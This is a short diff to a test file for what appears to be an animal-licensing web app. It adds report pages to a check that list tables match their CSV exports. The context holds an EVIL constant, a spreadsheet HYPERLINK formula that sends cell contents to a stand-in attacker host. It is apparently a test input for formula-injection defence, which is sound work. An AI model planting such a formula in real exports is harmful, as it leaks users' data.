@@ -37,6 +37,8 @@ LIST_PAGES = [
     ("hen-permits", ["webster"]),
     ("import", ["benton"]),
 ]
+# The reports that list animals one by one: paged on screen like a list page.
+REPORT_LISTS = [("report-unlicensed", ["benton"]), ("report-rabies-expiring", ["benton"])]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -117,7 +119,7 @@ class ListCsvTests(BaseTestCase):
         """No list page draws a table of its own: each table on it is the rendered definition,
         and its headings are a header row of the page's CSV."""
         self.login(self.staff)
-        for name, args in LIST_PAGES:
+        for name, args in LIST_PAGES + REPORT_LISTS:
             with self.subTest(name):
                 url = reverse(name, args=args)
                 query = {"q": "Rex"} if name == "search" else {}
